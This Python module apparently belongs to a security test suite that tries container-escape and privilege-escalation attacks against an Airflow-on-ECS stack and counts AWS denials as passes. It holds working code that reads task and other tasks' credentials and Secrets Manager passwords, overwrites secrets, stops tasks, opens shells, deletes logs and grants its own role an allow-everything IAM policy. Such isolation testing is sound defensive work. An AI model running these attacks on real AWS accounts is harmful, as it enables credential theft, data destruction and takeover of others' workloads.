"""Attacks with the task role, whose credentials SDKs read from the container's endpoint."""

from __future__ import annotations

import json
import os
import urllib.error
import urllib.request
from http import HTTPStatus
from typing import Any

from mallory_attacks import loot
from mallory_attacks.attack import Facts, Refused, attack

TIMEOUT_S = 10
CREDENTIALS = "AWS_CONTAINER_CREDENTIALS_FULL_URI"  # on Fargate AWS_CONTAINER_CREDENTIALS_RELATIVE_URI
DENIED = ("AccessDenied", "AccessDeniedException")


def _call(service: str, operation: str, /, **request: Any) -> Any:
    """Call AWS with the task role; raise Refused if it may not."""
    import boto3
    from botocore.exceptions import ClientError

    make: Any = boto3.client
    try:
        return getattr(make(service), operation)(**request)
    except ClientError as error:
        if error.response["Error"]["Code"] not in DENIED:
            raise
        raise Refused(str(error.response["Error"]["Message"])) from None


@attack
def metadata_endpoint(facts: Facts) -> str:
    """Find secrets in what the metadata endpoint tells."""
    base = os.environ.get("ECS_CONTAINER_METADATA_URI_V4")
    if not base:
        raise Refused("the address is not in its environment")
    said = b""
    for path in ("", "/task", "/stats", "/taskWithTags"):
        try:
            with urllib.request.urlopen(f"{base}{path}", timeout=TIMEOUT_S) as answer:  # noqa: S310 - http
                said += answer.read()
        except OSError:
            continue
    if found := loot.secrets_in(said, facts):
        return ", ".join(sorted(found))
    raise Refused(f"no secret in {len(said)} bytes")


@attack
def protection_of_its_own_worker(facts: Facts) -> str:
    """End its worker's protection through the ECS agent, so that a scale-in may stop the tasks of others."""
    base = os.environ.get("ECS_AGENT_URI")
    if not base:
        raise Refused("the address is not in its environment")
    url = f"{base}/task-protection/v1/state"
    for state in ({"ProtectionEnabled": False}, {"ProtectionEnabled": True, "ExpiresInMinutes": 60}):
        request = urllib.request.Request(  # noqa: S310 - http
            url, data=json.dumps(state).encode(), method="PUT", headers={"Content-Type": "application/json"}
        )
        with urllib.request.urlopen(request, timeout=TIMEOUT_S) as answer:  # noqa: S310
            said = answer.status
    return f"ended and restored: HTTP {said}"


@attack
def credentials_of_the_task_role(facts: Facts) -> str:
    """Read the credentials of the task role from the container's endpoint."""
    said = _credentials(os.environ.get(CREDENTIALS, ""))
    return f"of {said['RoleArn'].rpartition('/')[2]} until {said['Expiration']}"


@attack
def credentials_of_another_task(facts: Facts) -> str:
    """Read the credentials of another ECS task's role from the endpoint, by what is known of that task."""
    base = os.environ.get(CREDENTIALS, "").rpartition("/")[0]
    for arn in facts.tasks.values():
        for guess in (arn.rpartition("/")[2], arn):
            try:
                return f"of {_credentials(f'{base}/{guess}')['RoleArn']}"
            except urllib.error.HTTPError as error:
                if error.code != HTTPStatus.NOT_FOUND:
                    raise
    raise Refused("the endpoint knows no such credentials")


def _credentials(address: str) -> dict[str, str]:
    if not address.startswith("http://"):
        raise Refused("the address is not in its environment")
    with urllib.request.urlopen(address, timeout=TIMEOUT_S) as answer:  # noqa: S310 - http
        said: dict[str, str] = json.load(answer)
    return said


@attack
def aws_protection_of_another_task(facts: Facts) -> str:
    """Change the protection of another ECS task."""
    asked = {"tasks": [facts.tasks["airflow"]], "protectionEnabled": False}
    return _done(_call("ecs", "update_task_protection", cluster=facts.cluster, **asked))


@attack
def aws_update_service(facts: Facts) -> str:
    """Change a service."""
    asked = {"service": facts.services[0], "enableExecuteCommand": True}
    return _done(_call("ecs", "update_service", cluster=facts.cluster, **asked))


@attack
def aws_stop_another_task(facts: Facts) -> str:
    """Stop another ECS task."""
    return _done(_call("ecs", "stop_task", cluster=facts.cluster, task=facts.tasks["airflow"], reason="mallory"))


@attack
def aws_describe_another_task(facts: Facts) -> str:
    """Read the description of another ECS task."""
    return _done(_call("ecs", "describe_tasks", cluster=facts.cluster, tasks=[facts.tasks["airflow"]]))


@attack
def aws_run_a_task(facts: Facts) -> str:
    """Run a task definition with a command of its own, with the secrets of that definition."""
    return _done(_call("ecs", "run_task", cluster=facts.cluster, taskDefinition=facts.definition))


@attack
def aws_open_a_shell(facts: Facts) -> str:
    """Open a shell in another ECS task."""
    asked = {"task": facts.tasks["airflow"], "command": "sh", "interactive": True}
    return _done(_call("ecs", "execute_command", cluster=facts.cluster, **asked))


def _done(answer: dict[str, Any]) -> str:
    return f"HTTP {answer['ResponseMetadata']['HTTPStatusCode']}"


def _read_secret(facts: Facts, name: str) -> str:
    value = _call("secretsmanager", "get_secret_value", SecretId=facts.secret_arns[name])["SecretString"]
    return f"{name} of {len(value)} characters"


@attack
def aws_read_the_databases_secret(facts: Facts) -> str:
    """Read the database's password in Secrets Manager."""
    return _read_secret(facts, "database")


@attack
def aws_read_the_brokers_secret(facts: Facts) -> str:
    """Read the broker's password in Secrets Manager."""
    return _read_secret(facts, "broker")


@attack
def aws_read_the_token_secret(facts: Facts) -> str:
    """Read the secret that signs tokens in Secrets Manager."""
    return _read_secret(facts, "jwt")


@attack
def aws_read_the_fernet_secret(facts: Facts) -> str:
    """Read the secret of the Fernet key in Secrets Manager."""
    return _read_secret(facts, "fernet")


@attack
def aws_read_the_admins_secret(facts: Facts) -> str:
    """Read the administrator's password in Secrets Manager."""
    return _read_secret(facts, "admin")


@attack
def aws_write_a_secret(facts: Facts) -> str:
    """Replace the broker's password in Secrets Manager."""
    asked = {"SecretId": facts.secret_arns["broker"], "SecretString": "mallory"}
    return _done(_call("secretsmanager", "put_secret_value", **asked))


@attack
def aws_invoke_the_autoscaler(facts: Facts) -> str:
    """Invoke a function of the stack."""
    return _done(_call("lambda", "invoke", FunctionName=facts.functions[0]))


def _log_key(facts: Facts) -> str:
    return f"logs/dag_id=victim/run_id={facts.victim['run_id']}/task_id=say/attempt=1.log"


@attack
def aws_read_the_log_of_another_dag(facts: Facts) -> str:
    """Read another DAG's task log in the bucket."""
    body = _call("s3", "get_object", Bucket=facts.bucket, Key=_log_key(facts))["Body"].read()
    return f"{len(body)} bytes"


@attack
def aws_overwrite_the_log_of_another_dag(facts: Facts) -> str:
    """Overwrite another DAG's task log in the bucket."""
    body = _call("s3", "get_object", Bucket=facts.bucket, Key=_log_key(facts))["Body"].read()
    return _done(_call("s3", "put_object", Bucket=facts.bucket, Key=_log_key(facts), Body=body))


@attack
def aws_delete_the_log_of_another_dag(facts: Facts) -> str:
    """Delete another DAG's task log in the bucket."""
    return _done(_call("s3", "delete_object", Bucket=facts.bucket, Key=_log_key(facts)))


@attack
def aws_write_outside_the_logs(facts: Facts) -> str:
    """Write into the log bucket outside the task logs."""
    return _done(_call("s3", "put_object", Bucket=facts.bucket, Key="mallory", Body=b"x"))


@attack
def aws_list_outside_the_logs(facts: Facts) -> str:
    """List the log bucket outside the task logs."""
    return _done(_call("s3", "list_objects_v2", Bucket=facts.bucket))


@attack
def aws_assume_a_role(facts: Facts) -> str:
    """Assume the execution role of its own ECS task, which reads secrets."""
    return _done(_call("sts", "assume_role", RoleArn=facts.execution_role, RoleSessionName="mallory"))


@attack
def aws_write_a_policy(facts: Facts) -> str:
    """Allow its own role everything."""
    role = _credentials(os.environ.get(CREDENTIALS, ""))["RoleArn"].rpartition("/")[2]
    everything = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    asked = {"RoleName": role, "PolicyName": "mallory", "PolicyDocument": json.dumps(everything)}
    return _done(_call("iam", "put_role_policy", **asked))
